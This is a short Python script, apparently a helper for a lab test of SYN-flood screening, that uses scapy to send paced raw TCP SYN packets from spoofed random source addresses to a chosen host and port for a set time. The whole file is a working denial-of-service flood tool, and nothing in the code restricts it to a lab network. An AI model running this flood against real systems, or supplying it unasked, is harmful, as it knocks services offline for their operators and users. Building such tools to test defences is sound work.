#!/usr/bin/python3
"""A paced SYN flood from spoofed sources for the screen lab test (tests/lab/test_screen.sh).

usage: flood.py IFACE SRC_MAC DST_MAC DST_IP DPORT PPS SECONDS
Frames (random sources in 10.99.0.0/16, random ports and sequence numbers) are built once
with scapy, then sent raw on IFACE at about PPS for SECONDS. Prints the number sent.
"""
import random
import socket
import sys
import time

from scapy.all import IP, TCP, Ether, raw

iface, smac, dmac, dst, dport, pps, secs = sys.argv[1:8]
dport, pps, secs = int(dport), int(pps), float(secs)
rng = random.Random(9)
frames = [
    raw(Ether(src=smac, dst=dmac) /
        IP(src="10.99.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)), dst=dst) /
        TCP(sport=rng.randrange(1024, 65535), dport=dport, flags="S", seq=rng.randrange(1 << 32)))
    for _ in range(4096)
]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
sent = 0
start = time.monotonic()
end = start + secs
burst = 32
while True:
    now = time.monotonic()
    if now >= end:
        break
    due = int((now - start) * pps)
    if sent >= due:
        time.sleep(min(0.002, end - now))
        continue
    for _ in range(burst):
        try:
            s.send(frames[sent & 4095])
        except OSError:
            pass
        sent += 1
print(sent)
